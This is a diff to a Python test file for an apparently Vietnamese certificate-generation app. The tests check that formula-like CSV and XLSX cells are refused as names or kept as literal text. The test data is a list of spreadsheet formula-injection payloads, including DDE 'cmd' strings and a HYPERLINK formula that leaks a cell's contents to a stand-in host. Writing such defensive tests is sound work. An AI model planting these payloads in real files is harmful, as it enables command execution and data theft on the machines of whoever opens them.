@@ -460,28 +460,37 @@ FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C notepad'!A0", "-2+3+cmd|' 
             '@HYPERLINK("http://127.0.0.1:1/?leak="&A1,"Bấm")', "\t=1+1", "=1+1"]
 
 
+def test_formula_looking_names_are_refused_with_their_row_and_column(client):
+    """A list whose names are formulas was pasted wrongly: each such name is refused with its
+    row and column (names are never formulas); the same text in a position is not a name."""
+    rows = "".join(f'"{v.replace(chr(34), chr(34) * 2)}";Ông;CV\n' for v in FORMULAS)
+    body = refused(client, upload(client, (HEADER + rows).encode(), "ds.csv"), 422,
+                   "validation_failed")
+    assert [(e["row"], e["column"], e["code"]) for e in body["errors"]] == [
+        (row, "recipient_name", "formula_like") for row in range(2, 2 + len(FORMULAS))]
+
+
 def test_formula_looking_cells_are_kept_as_literal_text(client, app):
-    """Nothing here is a spreadsheet: cells are text. "=cmd|…" is stored and printed exactly
+    """Outside names, cells are text. "=cmd|…" in a position is stored and printed exactly
     as typed — never evaluated, never turned into a Word field — and no exported file exists
     that a spreadsheet program would evaluate it in."""
-    rows = "".join(f'"{v.replace(chr(34), chr(34) * 2)}";Ông;{v[:20]}\n' for v in FORMULAS)
+    rows = "".join(f'Nguyễn Văn An;Ông;"{v.replace(chr(34), chr(34) * 2)}"\n' for v in FORMULAS)
     response = upload(client, (HEADER + rows).encode(), "ds.csv", output="zip-docx")
     assert response.status_code == 202, response.get_data(as_text=True)[:500]
     job = response.get_json()
     assert job["total"] == len(FORMULAS)
     stored = app.extensions["thidua_jobs"].files.read_input(job["id"], 1)
-    assert [item.data["recipient_name"] for item in stored] == [v.strip() for v in FORMULAS]
-    assert [item.data["position"] for item in stored] == [v[:20].strip() for v in FORMULAS]
+    assert [item.data["position"] for item in stored] == [v.strip() for v in FORMULAS]
 
     from tests.support.documents import docx_lines
 
     common = json.loads(common_json())
     common.pop("register_start")
-    payload = {**common, "honorific": "ong", "recipient_name": FORMULAS[0],
-               "position": FORMULAS[1][:20]}
+    payload = {**common, "honorific": "ong", "recipient_name": "Nguyễn Văn An",
+               "position": FORMULAS[0]}
     rendered = client.post("/api/v1/documents/certificate.docx", json=payload)
     assert rendered.status_code == 200
-    assert f"Ông {FORMULAS[0]}" in docx_lines(rendered.data)
+    assert FORMULAS[0] in docx_lines(rendered.data)
     document_xml = zipfile.ZipFile(io.BytesIO(rendered.data)).read("word/document.xml")
     assert b"instrText" not in document_xml and b"fldSimple" not in document_xml
 
@@ -497,9 +506,9 @@ def test_formula_text_typed_in_an_xlsx_cell_stays_text(client, app):
     from openpyxl import Workbook
 
     workbook = Workbook()
-    workbook.active.append(["Họ và tên", "Danh xưng"])
-    workbook.active.append([None, "Ông"])
-    cell = workbook.active["A2"]
+    workbook.active.append(["Họ và tên", "Danh xưng", "Chức vụ"])
+    workbook.active.append(["Nguyễn Văn An", "Ông", None])
+    cell = workbook.active["C2"]
     cell.value, cell.data_type = "=cmd|' /C calc'!A0", "s"  # typed as text ('=… in Excel)
     buffer = io.BytesIO()
     workbook.save(buffer)
@@ -508,7 +517,7 @@ def test_formula_text_typed_in_an_xlsx_cell_stays_text(client, app):
     response = upload(client, buffer.getvalue())
     assert response.status_code == 202, response.get_data(as_text=True)[:500]
     stored = app.extensions["thidua_jobs"].files.read_input(response.get_json()["id"], 1)
-    assert stored[0].data["recipient_name"] == "=cmd|' /C calc'!A0"
+    assert stored[0].data["position"] == "=cmd|' /C calc'!A0"
 
 
 # ================================================================ the form itself
